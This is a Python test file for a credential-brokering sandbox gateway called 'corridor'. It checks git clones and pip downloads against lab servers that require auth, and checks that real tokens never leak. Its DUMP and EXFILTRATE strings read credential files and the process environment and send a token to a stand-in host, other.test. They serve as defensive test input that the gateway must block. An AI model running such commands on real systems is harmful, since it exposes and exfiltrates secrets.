"""Brokered credentials with real git and pip, against lab servers that demand them.

The world's `forge.test` is a git host over smart HTTP (the real `git http-backend`) that
answers 401 without config.GIT_TOKEN; `pypi-private.test` is a simple index that answers
401 without PRIVATE_INDEX_USER:PRIVATE_INDEX_PASSWORD. corridor holds those values (from
env: or file:), the sandbox only placeholders: a clone or download succeeds only because
the gateway swaps the real value in, and fails without the credential rule.
"""

from __future__ import annotations

import base64
import json
import shlex
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from tests.lab.config import (
    CORRIDOR_LAB_FLAGS,
    GIT_TOKEN,
    PRIVATE_INDEX_PASSWORD,
    PRIVATE_INDEX_USER,
    SANDBOX_PYTHON,
)
from tests.lab.world_git import COMMITS, FILES, REPO_NAME, cgi_reply, token_user
from tests.lab.world_http import Reply, basic_credentials
from tests.lab.world_pkg import PACKAGE, PrivateIndex

from corridor.audit.store import read_events

CORRIDOR = [sys.executable, "-m", "corridor"]
GIT_HOST = "forge.test"
INDEX_HOST = "pypi-private.test"
# A host the credentials are not bound to, inspected so that requests to it are readable.
OTHER_HOST = "other.test"
REPO_URL = f"https://{GIT_HOST}/{REPO_NAME}"
# The variable the real value reaches corridor in (never the sandbox).
SECRET_ENV = "CORRIDOR_LAB_SECRET"


def _basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


# ---- the world's side, sans-IO -----------------------------------------------------------

TOKEN_CASES = {
    "bearer": ({"authorization": "Bearer T0K"}, "token"),
    "bearer, scheme in any case": ({"authorization": "bEaReR T0K"}, "token"),
    "basic, token as password": ({"authorization": _basic("x-access", "T0K")}, "x-access"),
    "basic, empty user": ({"authorization": _basic("", "T0K")}, "token"),
    "basic, token as user": ({"authorization": _basic("T0K", "")}, None),
    "basic, wrong password": ({"authorization": _basic("x-access-token", "nope")}, None),
    "bearer, wrong token": ({"authorization": "Bearer nope"}, None),
    "basic, not base64": ({"authorization": "Basic %%%"}, None),
    "no authorization": ({}, None),
}  # fmt: skip


@pytest.mark.parametrize(("headers", "user"), TOKEN_CASES.values(), ids=TOKEN_CASES.keys())
def test_git_host_accepts_the_token_as_github_like_hosts_do(headers, user):
    assert token_user(headers, "T0K") == user


def test_basic_credentials_need_a_colon():
    assert basic_credentials({"authorization": _basic("u", "p:q")}) == ("u", "p:q")
    no_colon = "Basic " + base64.b64encode(b"just-a-user").decode()
    assert basic_credentials({"authorization": no_colon}) is None


CGI_CASES = {
    "smart answer": (
        b"Expires: Fri, 01 Jan 1980 00:00:00 GMT\r\nPragma: no-cache\r\n"
        b"Content-Type: application/x-git-upload-pack-advertisement\r\n\r\n0000",
        Reply(200, "application/x-git-upload-pack-advertisement", (b"0000",), 4,
              (("Expires", "Fri, 01 Jan 1980 00:00:00 GMT"), ("Pragma", "no-cache"))),
    ),
    "status and length the server writes itself": (
        b"Status: 404 Not Found\r\nContent-Length: 9\r\nContent-Type: text/plain\r\n\r\nnot found",
        Reply(404, "text/plain", (b"not found",), 9),
    ),
    "bare newlines": (
        b"Status: 403 Forbidden\n\n", Reply(403, "application/octet-stream", (b"",), 0),
    ),
    "no header block": (
        b"garbage", Reply.text(502, "git http-backend wrote no header block\n"),
    ),
}  # fmt: skip


@pytest.mark.parametrize(("output", "reply"), CGI_CASES.values(), ids=CGI_CASES.keys())
def test_cgi_output_becomes_a_reply(output, reply):
    assert cgi_reply(output) == reply


def test_private_index_answers_401_without_the_password():
    index = PrivateIndex("u", "pw", realm="r")
    path = f"/simple/{PACKAGE}/"
    refused = index.route("GET", path, {"authorization": _basic("u", "wrong")})
    assert refused is not None
    assert (refused.status, refused.headers) == (401, (("WWW-Authenticate", 'Basic realm="r"'),))
    assert index.route("GET", path, {}) == refused
    served = index.route("GET", path, {"authorization": _basic("u", "pw")})
    assert served is not None and served.status == 200


# ---- end to end --------------------------------------------------------------------------


@dataclass(frozen=True)
class Run:
    """One `corridor run` and what surrounded it."""

    result: subprocess.CompletedProcess[str]
    ws: Path
    state: Path
    requests: list[dict[str, Any]]  # what the world received meanwhile

    @property
    def output(self) -> str:
        return self.result.stdout + self.result.stderr

    def events(self) -> list[Any]:
        return read_events(self.state / "events.db")

    def statuses(self, host: str) -> list[int | None]:
        return [e.status for e in self.events() if e.kind == "http" and e.host == host]


def corridor_run(lab, tmp_path: Path, policy: str, script: str, secret: str | None) -> Run:
    """`corridor run -- sh -c script` with the policy; `secret` in SECRET_ENV for env:."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (tmp_path / "policy.yaml").write_text(policy)
    state = tmp_path / "state"
    argv = [*CORRIDOR, "run", *CORRIDOR_LAB_FLAGS, "--upstream-ca", str(lab.ca_pem),
            "--state-dir", str(state), "--workspace", str(ws),
            "--policy", str(tmp_path / "policy.yaml"), "--", "sh", "-c", script]  # fmt: skip
    # pip and git must not read the host's settings: an index or a credential helper there
    # would make the test pass or fail for reasons of its own.
    cleared = {n: None for n in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_CONFIG_FILE")}
    env = {**cleared, SECRET_ENV: secret}
    with lab.capture() as cap:
        result = lab.run(argv, cwd=str(ws), timeout=120, env=env)
        requests = cap.http_requests()
    return Run(result, ws, state, requests)


def assert_secret_absent(lab, run: Run, secret: str) -> None:
    """The real value is nowhere corridor or the sandbox wrote: not in the output, the
    event store (and `corridor log`), the state directory or the workspace."""
    assert secret not in run.output
    log = lab.run([*CORRIDOR, "log", "--json", "--state-dir", str(run.state)])
    assert log.returncode == 0, log.stderr
    assert secret not in log.stdout
    for event in run.events():
        assert secret not in json.dumps(event.data or {}) + str(event.reason), event
    for root in (run.state, run.ws):
        for f in root.rglob("*"):
            if f.is_file():
                assert secret.encode() not in f.read_bytes(), f


# The sandbox's view, written to seen.txt: the placeholder first, then everything a leak
# would show in (its environment, git's configuration at every level, the clone's config,
# a credential store).
DUMP = (
    '{ echo "$GIT_TOKEN"; cat /proc/self/environ; echo; git config --list --show-origin; '
    "cat repo/.git/config ~/.git-credentials ~/.config/git/credentials; } > seen.txt 2>&1"
)
# git sends this header (the placeholder, expanded by the sandbox's shell) on every request.
BEARER_HEADER = 'http.extraHeader="Authorization: Bearer $GIT_TOKEN"'
# The placeholder sent by git to a host it is not bound to: in a header, and in the URL.
EXFILTRATE = (
    f"git -c {BEARER_HEADER} ls-remote https://{OTHER_HOST}/{REPO_NAME} >/dev/null 2>&1; "
    'echo "header $?"; '
    f'git ls-remote "https://{OTHER_HOST}/$GIT_TOKEN.git" >/dev/null 2>&1; echo "url $?"'
)
GIT_POLICY = f"""\
version: 1
allow:
  - host: {GIT_HOST}
  - host: {OTHER_HOST}
    inspect: true
credentials:
  - name: GIT_TOKEN
    from: {{source}}
    hosts: [{GIT_HOST}]
    inject: {{inject}}
"""
HELPER = "!f() { echo username=x-access-token; echo password=$GIT_TOKEN; }; f"
BASIC_HEADER = (
    'http.extraHeader="Authorization: Basic $(printf x-access-token:%s "$GIT_TOKEN" | base64 -w0)"'
)


@dataclass(frozen=True)
class GitCase:
    """One way a sandbox hands git the placeholder, and what the git host must see."""

    source: str  # "env" or "file": where corridor reads the real token
    inject: str  # the credential's inject:
    clone: str  # the sandbox's command, cloning into ./repo
    upstream: frozenset[str | None]  # the Authorization headers the git host receives
    in_config: bool = False  # the placeholder is in the clone's .git/config (its URL)


REAL_BASIC = _basic("x-access-token", GIT_TOKEN)
# None: git probes without credentials and sends them after the host's 401 challenge.
GIT_CASES = {
    "env: source, basic, token in the URL": GitCase(
        "env", "basic",
        f'git clone -q "https://x-access-token:$GIT_TOKEN@{GIT_HOST}/{REPO_NAME}" repo',
        frozenset({None, REAL_BASIC}), in_config=True,
    ),
    "env: source, basic, from a credential helper": GitCase(
        "env", "basic", f"git -c credential.helper='{HELPER}' clone -q {REPO_URL} repo",
        frozenset({None, REAL_BASIC}),
    ),
    "file: source, basic, in http.extraHeader": GitCase(
        "file", "basic", f"git -c {BASIC_HEADER} clone -q {REPO_URL} repo",
        frozenset({REAL_BASIC}),
    ),
    "file: source, bearer, in http.extraHeader": GitCase(
        "file", "bearer", f"git -c {BEARER_HEADER} clone -q {REPO_URL} repo",
        frozenset({f"Bearer {GIT_TOKEN}"}),
    ),
}  # fmt: skip


@pytest.mark.lab
@pytest.mark.parametrize("case", GIT_CASES.values(), ids=GIT_CASES.keys())
def test_git_clone_over_https_with_a_brokered_token(lab, tmp_path, case: GitCase):
    if case.source == "file":
        secret_file = tmp_path / "git-token"  # outside the workspace: the sandbox cannot see it
        secret_file.write_text(GIT_TOKEN + "\n")
        spec = f"file:{secret_file}"
    else:
        spec = f"env:{SECRET_ENV}"
    policy = GIT_POLICY.format(source=spec, inject=case.inject)
    if case.inject == "basic":  # as docs/credentials.md's git example has it
        policy += "    username: x-access-token\n"
    script = (
        f"export GIT_TERMINAL_PROMPT=0; {case.clone} && echo cloned; "
        "git -C repo rev-list --count HEAD; "
        f"{DUMP}; {EXFILTRATE}"
    )
    run = corridor_run(lab, tmp_path, policy, script, GIT_TOKEN if case.source == "env" else None)
    assert run.result.returncode == 0, run.output
    # 128: git's "fatal" (the gateway's 403), not a success and not a crash.
    assert run.result.stdout.splitlines() == ["cloned", str(len(COMMITS)), "header 128", "url 128"]
    for name, text in FILES.items():
        assert (run.ws / "repo" / name).read_text() == text

    # The git host saw the real token; the other host saw nothing.
    to_git = {q["headers"].get("authorization") for q in run.requests if q["host"] == GIT_HOST}
    assert to_git == case.upstream
    assert [q for q in run.requests if q["host"] == OTHER_HOST] == []

    # The sandbox held the placeholder only, also where git keeps the URL and credentials.
    seen = (run.ws / "seen.txt").read_text(errors="replace")
    placeholder = seen.splitlines()[0]
    assert placeholder and placeholder != GIT_TOKEN
    assert f"GIT_TOKEN={placeholder}" in seen
    config = (run.ws / "repo" / ".git" / "config").read_text()
    assert (f"x-access-token:{placeholder}@{GIT_HOST}" in config) is case.in_config
    assert GIT_TOKEN not in seen

    events = run.events()
    used = {(e.host, e.data["name"]) for e in events if e.kind == "credential"}
    assert used == {(GIT_HOST, "GIT_TOKEN")}
    flagged = [e for e in events if e.kind == "exfiltration"]
    assert {(e.host, e.data["name"], e.data["where"].split()[0]) for e in flagged} == {
        (OTHER_HOST, "GIT_TOKEN", "header"),
        (OTHER_HOST, "GIT_TOKEN", "url"),
    }
    assert all(e.decision == "deny" for e in flagged)
    assert_secret_absent(lab, run, GIT_TOKEN)


@pytest.mark.lab
def test_git_clone_without_the_credential_gets_401(lab, tmp_path):
    # The same host, inspected so the statuses are recorded, and no credential rule.
    policy = f"version: 1\nallow:\n  - host: {GIT_HOST}\n    inspect: true\n"
    url = f"https://x-access-token:not-the-token@{GIT_HOST}/{REPO_NAME}"
    script = f'export GIT_TERMINAL_PROMPT=0; git clone -q "{url}" repo; echo "clone $?"'
    run = corridor_run(lab, tmp_path, policy, script, None)
    assert run.result.returncode == 0, run.output
    assert run.result.stdout.splitlines() == ["clone 128"]
    assert f"Authentication failed for 'https://{GIT_HOST}/{REPO_NAME}/'" in run.output
    assert not (run.ws / "repo").exists()
    # The probe without credentials and the try with the wrong ones, both refused.
    assert run.statuses(GIT_HOST) == [401, 401]
    assert [q["headers"].get("authorization") for q in run.requests] == [
        None,
        _basic("x-access-token", "not-the-token"),
    ]


INDEX_POLICY = f"""\
version: 1
allow:
  - host: {INDEX_HOST}
    inspect: true
"""
INDEX_CREDENTIAL = f"""\
credentials:
  - name: INDEX_PASSWORD
    from: env:{SECRET_ENV}
    hosts: [{INDEX_HOST}]
    inject: basic
    username: {PRIVATE_INDEX_USER}
"""


def pip_download(user: str, password: str) -> str:
    """A sandbox script: pip download from the private index, credentials in the URL."""
    url = f"https://{user}:{password}@{INDEX_HOST}/simple/"
    return (
        f"{shlex.quote(SANDBOX_PYTHON)} -m pip download -q --no-deps --no-cache-dir --no-input "
        f'--disable-pip-version-check --retries 0 --timeout 20 -d dl --index-url "{url}" '
        f'{PACKAGE}; echo "pip $?"; ls dl 2>/dev/null'
    )


@pytest.mark.lab
def test_pip_download_from_an_index_that_requires_basic_auth(lab, tmp_path):
    # The sandbox sends any user name: `username:` makes it the index's own upstream.
    script = pip_download("agent", "$INDEX_PASSWORD")
    run = corridor_run(
        lab, tmp_path, INDEX_POLICY + INDEX_CREDENTIAL, script, PRIVATE_INDEX_PASSWORD
    )
    assert run.result.returncode == 0, run.output
    lines = run.result.stdout.splitlines()
    assert lines[0] == "pip 0", run.output
    assert len(lines) == 2 and lines[1].endswith(".whl"), lines
    expected = _basic(PRIVATE_INDEX_USER, PRIVATE_INDEX_PASSWORD)
    assert {q["headers"].get("authorization") for q in run.requests} == {expected}
    assert set(run.statuses(INDEX_HOST)) == {200}
    events = run.events()
    assert {e.data["name"] for e in events if e.kind == "credential"} == {"INDEX_PASSWORD"}
    assert any(e.kind == "package" for e in events)
    assert_secret_absent(lab, run, PRIVATE_INDEX_PASSWORD)


@pytest.mark.lab
def test_pip_download_without_the_credential_gets_401(lab, tmp_path):
    script = pip_download(PRIVATE_INDEX_USER, "not-the-password")
    run = corridor_run(lab, tmp_path, INDEX_POLICY, script, None)
    assert run.result.returncode == 0, run.output
    assert run.result.stdout.splitlines() == ["pip 1"], run.output
    assert set(run.statuses(INDEX_HOST)) == {401}
    assert {q["headers"].get("authorization") for q in run.requests} == {
        _basic(PRIVATE_INDEX_USER, "not-the-password")
    }
